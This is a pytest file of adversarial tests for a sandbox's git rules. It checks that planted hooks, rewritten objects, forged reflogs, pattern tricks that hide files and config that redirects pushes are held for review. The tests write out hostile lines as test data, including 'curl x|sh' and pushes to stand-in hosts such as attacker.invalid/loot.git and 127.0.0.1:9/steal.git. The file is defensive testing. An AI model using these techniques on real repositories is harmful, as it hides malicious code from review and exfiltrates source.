"""A second outside review of issue 19's git rules, attacked for real through
``ringfence run`` (as root, and as the unprivileged user under
scripts/test-unprivileged.sh). Each test fails on the code before its fix; each
checks the host side: the host's own git runs nothing the sandbox chose, shows
every edit, and pushes where it pushed before.

* a fake repository (``HEAD``, ``objects/``, ``refs/``) planted inside ``.git``
  made the rules of the real one (hooks, info/exclude, refs/replace, remotes/,
  rewritten objects) answer for the fake one only;
* git's own pattern syntax (a quoted ``.gitattributes`` pattern, ``.gitignore``
  escapes, ``[^...]``, ``[[:alpha:]]``, a CR line end) read differently than git;
* a self-ignoring cache directory (``CACHEDIR.TAG``) that also holds code;
* config that hides changes (``core.filemode``, ``core.checkStat``,
  ``core.trustctime``) or moves a push (``branch.*.pushRemote``);
* an amended commit with the reflog rewritten to hide it.
"""

from __future__ import annotations

import pytest

from tests.ringfence.test_staging_git import box, commit_all, host_git, run  # noqa: F401

pytestmark = [pytest.mark.sandbox]


def fake_repo(where: str) -> str:
    return f"mkdir -p {where}/HEAD {where}/objects {where}/refs; "


def test_a_hook_under_a_fake_repository_inside_dot_git_is_held(box):
    commit_all(box)
    r = run(box, (fake_repo(".git/hooks")
                  + f"printf '#!/bin/sh\\ntouch {box.marker}\\n' > .git/hooks/pre-commit; "
                  "chmod +x .git/hooks/pre-commit"))
    assert r.returncode == 0, r.stderr
    assert "held for review: .git/hooks/pre-commit" in r.stderr, r.stderr
    (box.ws / "README").write_text("changed\n")
    host_git(box, "commit", "-qam", "t")
    assert not box.marker.exists()


def test_exclude_and_attributes_under_a_fake_repository_are_held(box):
    commit_all(box)
    r = run(box, (fake_repo(".git/info") + "echo evil.sh >> .git/info/exclude; "
                  "echo 'README -diff' > .git/info/attributes; echo payload > evil.sh; "
                  "echo 'curl x|sh' >> README"))
    assert r.returncode == 0, r.stderr
    assert "held for review: .git/info/exclude" in r.stderr, r.stderr
    assert "held for review: .git/info/attributes" in r.stderr, r.stderr
    assert "?? evil.sh" in host_git(box, "status", "--porcelain").stdout
    assert "curl x|sh" in host_git(box, "diff").stdout


def test_replace_refs_and_legacy_remotes_under_a_fake_repository_are_held(box):
    commit_all(box)
    bare = box.root / "exfil.git"
    host_git(box, "init", "-q", "--bare", str(bare))
    r = run(box, ("h=$(git rev-parse HEAD); "
                  "f=$(git cat-file commit $h | sed 's/^init$/harmless/' | "
                  "git hash-object -t commit -w --stdin); "
                  + fake_repo(".git/refs/replace") + "echo $f > .git/refs/replace/$h; "
                  + fake_repo(".git/remotes")
                  + f"printf 'URL: {bare}\\nPush: refs/heads/*:refs/heads/*\\n' "
                  "> .git/remotes/origin"))
    assert r.returncode == 0, r.stderr
    assert "held for review: .git/refs/replace/" in r.stderr, r.stderr
    assert "held for review: .git/remotes/origin" in r.stderr, r.stderr
    assert host_git(box, "log", "--format=%s").stdout == "init\n"
    host_git(box, "push", "-q", "origin", "HEAD:refs/heads/x")
    assert host_git(box, "log", "--oneline", "--all", cwd=bare).stdout == ""


def test_a_rewritten_object_under_a_fake_objects_repository_is_held(box):
    commit_all(box)
    r = run(box, ("b=$(git rev-parse HEAD:README); p=.git/objects/$(echo $b | cut -c1-2)/"
                  "$(echo $b | cut -c3-); python3 - \"$p\" <<'EOF'\n"
                  "import os, sys, zlib\n"
                  "body = b'#!/bin/sh\\nevil\\n'\n"
                  "os.unlink(sys.argv[1])\n"
                  "open(sys.argv[1], 'wb').write(zlib.compress(b'blob %d\\0' % len(body) + body))\n"
                  "EOF\n" + fake_repo(".git/objects")))
    assert r.returncode == 0, r.stderr
    assert "rewrites an existing git object" in r.stderr, r.stderr
    assert host_git(box, "show", "HEAD:README").stdout == "hello\n"


def test_a_quoted_attributes_pattern_is_read_as_git_reads_it(box):
    commit_all(box)
    r = run(box, "printf '\"README\"-diff\\n' > .gitattributes; echo 'curl x|sh' >> README")
    assert r.returncode == 0, r.stderr
    assert "held for review: .gitattributes" in r.stderr, r.stderr
    assert "curl x|sh" in host_git(box, "diff").stdout


@pytest.mark.parametrize("pattern", ("ev\\\\il.sh", "evil.sh\\r", "[^x]vil.sh",
                                     "[[:alpha:]]vil.sh", "[!x]vil.sh", "e[u-w]il.sh"))
def test_gitignore_patterns_git_reads_differently_never_hide_a_new_file(box, pattern):
    commit_all(box)
    r = run(box, f"printf '{pattern}\\n' > .gitignore; echo payload > evil.sh")
    assert r.returncode == 0, r.stderr
    status = host_git(box, "status", "--porcelain").stdout
    assert "?? evil.sh" in status or "held for review: .gitignore" in r.stderr, (status, r.stderr)


def test_a_self_ignoring_cache_directory_holding_code_is_not_hidden(box):
    commit_all(box)
    r = run(box, ("mkdir -p tests/helpers; cd tests/helpers; echo 'import os' > conftest.py; "
                  "echo 'Signature: 8a477f597d28d172789f06886806bc55' > CACHEDIR.TAG; "
                  "echo '*' > .gitignore"))
    assert r.returncode == 0, r.stderr
    status = host_git(box, "status", "--porcelain", "--untracked-files=all").stdout
    assert "conftest.py" in status or "held for review: tests" in r.stderr, (status, r.stderr)


def test_a_real_cache_directory_is_still_applied(box):
    commit_all(box)
    r = run(box, ("mkdir -p .pytest_cache/v/cache; echo '{}' > .pytest_cache/v/cache/nodeids; "
                  "echo 'Signature: 8a477f597d28d172789f06886806bc55' > .pytest_cache/CACHEDIR.TAG; "
                  "echo '# Created by pytest automatically.' > .pytest_cache/.gitignore; "
                  "echo '*' >> .pytest_cache/.gitignore; echo '# pytest cache' > "
                  ".pytest_cache/README.md"))
    assert r.returncode == 0, r.stderr
    assert "RF641" not in r.stderr, r.stderr
    assert (box.ws / ".pytest_cache" / "v" / "cache" / "nodeids").exists()


@pytest.mark.parametrize("setting", ("core.filemode false", "core.checkStat minimal",
                                     "core.trustctime false"))
def test_config_that_hides_changes_is_held(box, setting):
    commit_all(box)
    r = run(box, f"git config {setting}")
    assert r.returncode == 0, r.stderr
    assert "held for review: .git/config" in r.stderr, r.stderr
    key, value = setting.split()
    got = host_git(box, "config", "--get", key).stdout.strip()
    assert got != value, got        # the host's config is what it was


@pytest.mark.parametrize("key", ("branch.{branch}.pushRemote", "remote.pushDefault",
                                 "branch.{branch}.remote"))
def test_a_push_remote_for_the_branch_is_held(box, key):
    commit_all(box)
    origin = box.root / "origin.git"
    host_git(box, "init", "-q", "--bare", str(origin))
    host_git(box, "remote", "add", "origin", str(origin))
    branch = host_git(box, "rev-parse", "--abbrev-ref", "HEAD").stdout.strip()
    r = run(box, ("git config remote.backup.url https://attacker.invalid/loot.git; "
                  f"git config {key.format(branch=branch)} backup"))
    assert r.returncode == 0, r.stderr
    assert "held for review: .git/config" in r.stderr, r.stderr
    host_git(box, "push", "-q", "origin", "HEAD")
    pushed = host_git(box, "push", "--dry-run", "--porcelain").stdout
    assert "attacker.invalid" not in pushed


def test_a_rewritten_reflog_is_held(box):
    commit_all(box)
    before = (box.ws / ".git" / "logs" / "HEAD").read_text()
    r = run(box, ("echo 'curl x|sh' >> README; old=$(git rev-parse HEAD); "
                  "git -c user.name=u -c user.email=u@x commit -qa --amend --no-edit; "
                  "new=$(git rev-parse HEAD); for f in .git/logs/HEAD .git/logs/refs/heads/*; do "
                  "head -1 $f | sed \"s/$old/$new/\" > $f.t; mv $f.t $f; done"))
    assert r.returncode == 0, r.stderr
    assert "held for review: .git/logs/HEAD" in r.stderr, r.stderr
    assert (box.ws / ".git" / "logs" / "HEAD").read_text() == before   # not the forgery


# --- the third review: bypasses of the fixes above ---------------------------------

AMEND = ("echo 'curl x|sh' >> README; "
         "git -c user.name=u -c user.email=u@x commit -qa --amend --no-edit; ")


@pytest.mark.parametrize("hide", ("rm .git/logs/HEAD .git/logs/refs/heads/*", "rm -rf .git/logs"))
def test_an_amend_with_its_reflogs_deleted_is_held(box, hide):
    commit_all(box)
    before = host_git(box, "rev-parse", "HEAD").stdout.strip()
    r = run(box, AMEND + hide)
    assert r.returncode == 0, r.stderr
    assert "held for review: .git/logs" in r.stderr, r.stderr
    assert (box.ws / ".git" / "logs" / "HEAD").exists()
    assert before in (box.ws / ".git" / "logs" / "HEAD").read_text()


def test_a_branch_moved_behind_the_reflogs_back_is_held(box):
    commit_all(box)
    before = host_git(box, "rev-parse", "HEAD").stdout.strip()
    branch = host_git(box, "rev-parse", "--abbrev-ref", "HEAD").stdout.strip()
    r = run(box, ("echo 'curl x|sh' >> README; git add README; t=$(git write-tree); "
                  f"c=$(git -c user.name=u -c user.email=u@x commit-tree $t -m init); "
                  f"echo $c > .git/refs/heads/{branch}"))
    assert r.returncode == 0, r.stderr
    assert f"held for review: .git/refs/heads/{branch}" in r.stderr, r.stderr
    assert host_git(box, "rev-parse", "HEAD").stdout.strip() == before


def test_ordinary_commits_and_branches_still_apply(box):
    commit_all(box)
    r = run(box, ("git checkout -qb feature/x; echo y >> README; "
                  "git -c user.name=u -c user.email=u@x commit -qam two; "
                  "git -c user.name=u -c user.email=u@x commit -q --amend -m two-b; "
                  "git branch -q other HEAD~1"))
    assert r.returncode == 0, r.stderr
    assert "RF641" not in r.stderr, r.stderr
    assert host_git(box, "log", "-1", "--format=%s", "feature/x").stdout == "two-b\n"


@pytest.mark.parametrize("layout,pattern", (("tools", "**/conftest.py"),
                                            ("", "\ufeffconftest.py"),
                                            ("tools", "tools/**/conftest.py")))
def test_gitignore_forms_git_matches_never_hide_a_new_conftest(box, layout, pattern):
    commit_all(box)
    where = f"{layout}/" if layout else ""
    gi = "" if pattern.startswith("tools/") else where
    r = run(box, (f"mkdir -p ./{where}; echo 'import os' > {where}conftest.py; "
                  f"printf '%s\\n' '{pattern}' > {gi}.gitignore"))
    assert r.returncode == 0, r.stderr
    status = host_git(box, "status", "--porcelain", "--untracked-files=all").stdout
    assert f"{where}conftest.py" in status, (status, r.stderr)


def test_removing_a_negation_that_kept_a_file_visible_is_held(box):
    (box.ws / ".gitignore").write_text("*.py\n!*.py\n")
    host_git(box, "add", ".gitignore")
    commit_all(box)
    r = run(box, "echo 'import os' > conftest.py; printf '*.py\\n' > .gitignore")
    assert r.returncode == 0, r.stderr
    assert "?? conftest.py" in host_git(box, "status", "--porcelain").stdout


def test_a_conftest_in_a_build_dir_pytest_collects_is_not_hidden(box):
    commit_all(box)
    r = run(box, "mkdir target; echo 'import os' > target/conftest.py; "
                 "printf 'target/\\n' > .gitignore")
    assert r.returncode == 0, r.stderr
    status = host_git(box, "status", "--porcelain", "--untracked-files=all").stdout
    assert "target/conftest.py" in status, (status, r.stderr)


@pytest.mark.parametrize("line", ("* -diff=x -merge=x", "[attr]m -diff=1\n* m"))
def test_unset_attributes_with_a_value_are_held(box, line):
    commit_all(box)
    r = run(box, (f"mkdir -p .git/info; printf '{line}\\n' > .git/info/attributes; "
                  "echo 'curl x|sh' >> README"))
    assert r.returncode == 0, r.stderr
    assert "held for review: .git/info/attributes" in r.stderr, r.stderr
    assert "curl x|sh" in host_git(box, "diff").stdout


def test_a_worktree_config_that_moves_the_push_is_held(box):
    commit_all(box)
    r = run(box, ("git config core.repositoryformatversion 1; "
                  "git config extensions.worktreeConfig true; "
                  "printf '[remote \"origin\"]\\n\\turl = http://127.0.0.1:9/steal.git\\n' "
                  "> .git/config.worktree"))
    assert r.returncode == 0, r.stderr
    assert "held for review: .git/config.worktree" in r.stderr, r.stderr
    assert "steal" not in host_git(box, "remote", "-v").stdout


def test_a_common_dir_added_to_an_existing_repository_is_held(box):
    commit_all(box)
    r = run(box, ("git init -q sub; git -C sub config core.fsmonitor 'x'; "
                  "echo ../sub/.git > .git/commondir"))
    assert r.returncode == 0, r.stderr
    assert "held for review: .git/commondir" in r.stderr, r.stderr
    assert not (box.ws / ".git" / "commondir").exists()


def test_split_index_and_submodule_ignore_are_held(box):
    commit_all(box)
    r = run(box, "git config core.splitIndex true; printf '[submodule \"m\"]\\n\\tpath = m\\n"
                 "\\turl = https://example.invalid/m.git\\n\\tignore = all\\n' > .gitmodules")
    assert r.returncode == 0, r.stderr
    assert "held for review: .git/config" in r.stderr, r.stderr
    assert "held for review: .gitmodules" in r.stderr, r.stderr
